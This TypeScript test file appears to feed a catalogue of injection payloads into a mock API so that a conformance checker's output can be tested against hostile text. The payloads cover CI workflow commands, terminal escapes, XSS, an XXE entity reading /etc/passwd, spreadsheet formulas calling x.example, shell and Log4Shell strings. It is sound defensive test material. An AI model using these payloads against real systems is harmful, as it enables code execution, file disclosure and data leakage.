import type { Change } from '../fault.ts';
import { anything, on } from '../fault-kit/conditions.ts';
import { addsToError, changeBody, changeRecords, changeResponse } from '../fault-kit/responses.ts';
import { chain } from '../fault-kit/table.ts';
import type { Scene } from './hostile.ts';
import { hostileTable } from './hostile.ts';
import { check, FORMATS, inObjects, MARKUP, over, withHeaders } from './kit.ts';

const VERDICT = /^(NONCONFORMANT|INCOMPLETE)/;

/** A text in all places from which reports take texts: names, values, types, ids, errors and the API description. */
function everywhere(text: string): Change {
  return chain(
    changeRecords(anything, (record) =>
      Object.assign(record, {
        id: `${text}${String(record.id)}`,
        name: text,
        type: text,
        status: text,
        createdAt: text,
        [text]: text,
      }),
    ),
    inObjects(on.me, (object) => void Object.assign(object, { name: text, prefix: text, last4: text })),
    changeBody(on.document, (body) =>
      Object.assign(body, { openapi: text, info: { title: text, version: text, description: text }, [text]: text }),
    ),
    addsToError(anything, [400, 401, 403, 404, 405], () => ({ message: text, code: text, [text]: text })),
    changeResponse(anything, (response) => ({
      ...response,
      headers: { ...response.headers, server: inHeader(text), 'x-powered-by': inHeader(text) },
    })),
  );
}

function inHeader(text: string): string {
  return text.replace(/[^\t\x20-\x7e\x80-\xff]/g, '?').slice(0, 500);
}

function texts(text: string): Scene {
  return { serves: over(everywhere(text)), command: check({ formats: FORMATS, more: ['--bundle'] }), says: VERDICT };
}

/** Texts that something behind us would act on: a terminal, a pipeline, a browser, a shell, a spreadsheet. */
export const textRows = hostileTable`
  1 workflow-commands: Texts that are commands to a pipeline, behind line breaks of every kind
    ${texts('::error title=x::owned\n::set-output name=x::y\r::add-mask::x\u2028::stop-commands::x\n##vso[task.setvariable variable=x]y\n%0A::error::z')}
  1 workflow-commands-in-actions: The same where GitHub Actions reads the annotations
    ${{ ...texts('x\n##[error]owned\n##vso[task.setvariable variable=x]y'), env: () => ({ TF_BUILD: 'True', CI: 'true' }) }}
  1 terminal-escapes: Texts that a terminal acts on
    ${texts('\u001b[2J\u001b]0;owned\u0007\u001b]8;;http://x.example\u001b\\link\u009b31m\u0008\u0007\u0090q\u009c\r')}
  1 reversed-text: Texts that change the direction in which they are read
    ${texts('\u202egnp.exe\u2066\u2069\u200f\u061c\u200b\ufeff')}
  1 html: Texts that are markup with scripts
    ${texts(`"'>${MARKUP} onload=alert(1)></script><script>alert(1)</script><img src=x onerror=alert(1)><!--<svg/onload=alert(1)>`)}
  1 markdown: Texts that are links, images and tables of Markdown
    ${texts(`![x](http://x.example/track.png) [click](javascript:alert(1)) | a | b |\n|---|---|\n\`\`\`\n# owned ${MARKUP} x=1>\n<details open ontoggle=alert(1)>`)}
  1 xml: Texts that end a section of XML, or name entities
    ${texts(`]]>${MARKUP}/><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;&#0;\u0000\u0001\ufffe\uffff`)}
  1 formulas: Texts that a spreadsheet would compute
    ${texts('=HYPERLINK("http://x.example?"&A1,"x")\n+cmd|\' /C calc\'!A0\n@SUM(1)\n-2+3')}
  1 shell: Texts that a shell would run, in every line of curl too
    ${texts("'; touch owned; '$(touch owned)`touch owned`\n\" && touch owned #\\")}
  1 templates: Texts that a template or a logger would expand
    ${texts(`${'$'}{jndi:ldap://x.example/a}{{constructor.constructor("alert(1)")()}}%s%n%x<%= 7*7 %>#{7*7}`)}
  1 prototype-names: Texts that are names of what all objects inherit
    ${texts('__proto__')}
  1 long-words: Texts of a hundred kilobytes without a space
    ${texts('live_'.repeat(20_000))}
  1 near-matches: Texts that almost look like telephone numbers, addresses and keys, again and again
    ${texts(`${'+66 9-'.repeat(500)}${'a@'.repeat(500)}${'9 '.repeat(500)}${'cp_live_'.repeat(150)}`)}
  0,1,3 headers-with-texts: Headers that are commands to a pipeline
    ${{ ...texts(''), says: /^(CONFORMANT|NONCONFORMANT|INCOMPLETE)/, serves: withHeaders(() => ({ server: '::error::owned', 'x-request-id': '::set-output name=a::b', 'content-type': 'application/json; ::error::x' })) }}
`;
